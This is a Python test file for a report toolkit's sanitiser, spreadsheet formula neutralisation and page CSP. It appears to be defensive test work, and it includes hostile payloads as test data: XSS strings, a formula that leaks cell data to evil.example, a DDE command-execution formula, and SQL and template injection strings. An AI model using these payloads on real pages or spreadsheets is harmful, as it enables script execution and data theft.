"""Nothing in a client's data executes: the sanitiser, formula neutralisation and the pages' CSP.

Unit level (fast): the three payloads of issue 14 case 2 through :func:`sanitize_markdown`, formula
prefixes through CSV and xlsx, the prefix round trip (Hypothesis). Browser level: a page rendered by
cvkit's template with the payloads in a markdown output, a raw HTML output and the header, opened
in headless Chromium with a local HTTP server standing in for the attacker's beacon.
"""

from __future__ import annotations

import http.server
import io
import threading

import nbformat
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from cvkit.engagement.sanitize import (SafeMarkdown, csp_policy, escape_html, escape_markdown,
                                       is_formula_like, neutralise_frame, neutralise_workbook,
                                       restore_formula, restore_frame, sanitize_markdown,
                                       neutralise_formula)
from tests.reliability.conftest import FIGURES, FUZZ

IMG = '<img src=x onerror="document.title=\'PWNED\'">'
JS_LINK = "[click](javascript:alert(1))"
BEACON = "![x](http://127.0.0.1:{port}/beacon.png)"
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
            "@SUM(A1:A2)", "\t=1", "\r=1"]


def active_content(html: str) -> list[str]:
    """Every element or attribute of ``html`` that could run code or fetch something."""
    from html.parser import HTMLParser

    found: list[str] = []

    class Parser(HTMLParser):
        def handle_starttag(self, tag, attrs):
            if tag in {"script", "img", "svg", "iframe", "object", "embed", "link", "style", "form", "base"}:
                found.append(tag)
            for name, value in attrs:
                if name.startswith("on") or name in {"src", "srcset", "style"}:
                    found.append(f"{tag}[{name}]")
                if name == "href" and (":" in (value or "").split("/")[0] or (value or "").startswith("/")):
                    found.append(f"{tag}[href={value}]")

    Parser().feed(html)
    return found


@pytest.mark.parametrize("payload", [IMG, JS_LINK, BEACON.format(port=8765), "<script>alert(1)</script>",
                                     "[x](JaVaScRiPt:alert(1))", "[x](data:text/html,<b>hi</b>)",
                                     "[x](//evil.example/x)", "[x](https://evil.example/x)",
                                     '<a href="javascript:alert(1)">a</a>', "<svg onload=alert(1)>",
                                     "<!-- c --><iframe src=//evil.example>"])
def test_sanitised_markdown_has_no_active_content(payload):
    html = sanitize_markdown(f"Finding: {payload} and **bold**")
    assert active_content(html) == []
    assert "<strong>bold</strong>" in html
    FIGURES["hostile markdown payloads sanitised"] += 1


def test_sanitiser_keeps_cvkit_markdown_and_local_links():
    md = "1. **12.5%**: churn *(clv)*\n2. see [the CLV page](04_customer_lifetime_value.html#top)\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    html = sanitize_markdown(md)
    assert "<ol>" in html and "<strong>12.5%</strong>" in html and "<em>(clv)</em>" in html
    assert 'href="04_customer_lifetime_value.html#top"' in html and "<table>" in html
    assert SafeMarkdown(md)._repr_html_() == html and repr(SafeMarkdown(md)) == md


def test_escapes_are_literal():
    assert escape_html(IMG) == "&lt;img src=x onerror=&quot;document.title=&#x27;PWNED&#x27;&quot;&gt;"
    # A data value put into cvkit's markdown shows as the text it is: no link, no tag.
    html = sanitize_markdown("Segment " + escape_markdown(JS_LINK + " " + IMG))
    assert "<a" not in html and "<img" not in html and "[click](javascript:alert(1))" in html


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_prefixes_neutralised(value):
    assert is_formula_like(value)
    assert neutralise_formula(value) == "'" + value
    assert restore_formula(neutralise_formula(value)) == value


@pytest.mark.parametrize("value", ["-12.5", "+3", "1e5", "-1E-3", "50%", "plain", "", "'quoted", "a=b"])
def test_numbers_and_plain_text_untouched(value):
    assert neutralise_formula(value) == value


@FUZZ
@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\rab1. ")), max_size=8))
def test_prefix_round_trip(value):
    once = neutralise_formula(value)
    assert not is_formula_like(once)
    assert restore_formula(once) == value


def test_csv_and_workbook_cells_inert_numbers_numeric(tmp_path):
    from cvkit.engagement.outputs import Outputs
    from cvkit.engagement.report import write_workbook

    df = pd.DataFrame({"=HYPERLINK(\"x\")": FORMULAS, "amount": [-1.5, 2, 3, 4, 5, 6, 7],
                       "id": ["00001", "-7", "+44", "a", "b", "c", "d"]})
    Outputs(tmp_path, "demo").table(df, "hostile")
    import csv

    with open(tmp_path / "tables" / "demo" / "hostile.csv", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert len(cells) == 3 * 8 and not [c for c in cells if is_formula_like(c)]
    back = restore_frame(pd.read_csv(tmp_path / "tables" / "demo" / "hostile.csv", dtype={"id": str}))
    assert back.columns.tolist() == df.columns.tolist()
    assert back[df.columns[0]].tolist() == FORMULAS and back["amount"].tolist() == df["amount"].tolist()
    out = write_workbook(tmp_path / "tables", tmp_path / "book.xlsx")
    import openpyxl

    ws = openpyxl.load_workbook(out).worksheets[-1]  # after the contents sheet
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a live formula in the workbook"
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    for value in FORMULAS:  # (XML stores a lone CR as LF)
        assert texts[value.replace("\r", "\n")].quotePrefix, value  # shown as in the data, stays text when edited
    assert [c.value for c in ws["B"][1:]] == [-1.5, 2, 3, 4, 5, 6, 7]


def test_neutralise_workbook_turns_openpyxl_formulas_into_text():
    import openpyxl

    wb = openpyxl.Workbook()
    wb.active.append(["=1+1", "@x", 5, "-3"])
    assert neutralise_workbook(wb) == 2
    buf = io.BytesIO()
    wb.save(buf)
    ws = openpyxl.load_workbook(io.BytesIO(buf.getvalue())).active
    assert [(c.value, c.data_type) for c in ws[1]] == [("=1+1", "s"), ("@x", "s"), (5, "n"), ("-3", "s")]


def test_frame_neutralisation_leaves_numeric_columns():
    df = pd.DataFrame({"n": [-1, 2], "s": ["-x", "ok"]})
    out = neutralise_frame(df)
    assert out["n"].dtype == df["n"].dtype and out["s"].tolist() == ["'-x", "ok"]


def test_csp_allows_only_hashed_scripts_and_no_network():
    policy = csp_policy()
    assert "default-src 'none'" in policy and "script-src 'none'" in policy and "img-src data:" in policy
    assert "http" not in policy
    assert "'sha256-" in csp_policy(["console.log(1)"]) and "unsafe-inline'; img" in policy


class _Beacon(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self):  # noqa: N802 (http.server's name)
        type(self).hits.append(self.path)
        self.send_response(200)
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture()
def beacon():
    _Beacon.hits = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Beacon)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1], _Beacon.hits
    server.shutdown()
    server.server_close()


def test_rendered_page_runs_and_fetches_nothing(tmp_path, browser, beacon):
    """The three payloads of case 2 in a page: as a client name, a sanitised markdown output, and
    a raw HTML output that slipped past (the CSP must still block it)."""
    from cvkit.engagement.report import print_pdf, render_notebook

    port, hits = beacon
    payloads = [IMG, JS_LINK, BEACON.format(port=port)]
    nb = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_code_cell("display(findings)")
    cell.outputs = [
        nbformat.v4.new_output("display_data", data={"text/html": SafeMarkdown("\n\n".join(payloads))._repr_html_(),
                                                      "text/plain": "findings"}),
        # Defence in depth: raw HTML that bypassed every escape is still blocked by the CSP.
        nbformat.v4.new_output("display_data", data={
            "text/html": f'<img src="http://127.0.0.1:{port}/raw.png"><img src=x onerror="document.title=\'PWNED\'">'
                         f'<script>document.title="PWNED"</script>', "text/plain": "raw"}),
    ]
    nb.cells = [nbformat.v4.new_markdown_cell("# Page"), cell]
    page = render_notebook(nb, tmp_path / "page.html", title=IMG, client_name=IMG + JS_LINK,
                           analysis_date="2026-01-01")
    html = page.read_text()
    assert 'http-equiv="Content-Security-Policy"' in html.split("</head>")[0]
    ctx = browser.new_context()
    p = ctx.new_page()
    p.goto(page.as_uri())
    p.wait_for_load_state("load")
    assert p.title() == f"{IMG} | {IMG}{JS_LINK}"  # the payload as text; run, it would set "PWNED"
    assert p.evaluate("document.querySelectorAll('a[href^=\"javascript\"]').length") == 0
    ctx.close()
    print_pdf(page, tmp_path / "page.pdf")
    assert (tmp_path / "page.pdf").stat().st_size > 0
    assert hits == [], f"the page fetched {hits}"
    FIGURES["pages opened in Chromium with hostile payloads"] += 1


# --- Hostile strings through every output format (fuzz) -----------------------------------------

HOSTILE = [IMG, JS_LINK, BEACON.format(port=9), "<script>alert(1)</script>", *FORMULAS, "\u202eevil\u202c",
           "zero\u200bwidth\u200d", "L" * 10_000, "'; DROP TABLE x; --", "{{ 7*7 }}", "${7*7}", "\x00nul", "a\nb\r\nc"]
_hostile = st.one_of(st.sampled_from(HOSTILE),
                     st.lists(st.sampled_from(list("<>\"'&=+-@\t\r[]()!:/*_#`|\u202e\u200b") + ["javascript:", "img "]),
                              min_size=1, max_size=20).map("".join))


def _render(df: pd.DataFrame, md: str) -> str:
    from cvkit.present import table

    import re

    # The table's own <style> blocks (house CSS, the Styler's column alignment) hold no data: dropped
    # before looking for active content.
    return re.sub(r"<style[^>]*>.*?</style>", "", table(df).to_html(), flags=re.S) + sanitize_markdown(md)


@FUZZ
@given(label=_hostile, value=_hostile)
def test_hostile_labels_are_inert_in_html_csv_and_xlsx(tmp_path_factory, label, value):
    """A label a client's data can set (a column, a brand, a segment or persona name, a level) and a
    cell value: text in the HTML table and in sanitised markdown, inert in the CSV and the workbook."""
    import csv as csvmod

    import openpyxl

    from cvkit.engagement.outputs import Outputs
    from cvkit.engagement.report import write_workbook
    from cvkit.segment.personas import format_persona_cards

    label = label.replace("\x00", "")
    df = pd.DataFrame({label: [value, "ok"], "share": [0.5, -0.25]})
    cards = pd.DataFrame({"segment": [1], "name": [label], "size_share": [0.5], "description": [value],
                          "source": ["generated"]})
    html = _render(df, format_persona_cards(cards))
    assert active_content(html) == []
    folder = tmp_path_factory.mktemp("fuzz")
    Outputs(folder, "fuzz").table(df, "labels")
    with open(folder / "tables" / "fuzz" / "labels.csv", newline="", encoding="utf-8") as fh:
        rows = list(csvmod.reader(fh))
    assert len(rows) == 3 and not [c for r in rows for c in r if is_formula_like(c)]
    back = restore_frame(pd.read_csv(folder / "tables" / "fuzz" / "labels.csv", dtype=str, keep_default_na=False))
    assert back.columns[0] == label.strip() or back.columns[0] == label
    ws = openpyxl.load_workbook(write_workbook(folder / "tables", folder / "book.xlsx")).worksheets[-1]
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert all(c.quotePrefix for c in cells if is_formula_like(c.value))
    assert [c.value for c in ws["B"][1:]] == [0.5, -0.25]
    FIGURES["hostile labels fuzzed through HTML, CSV and xlsx"] += 1
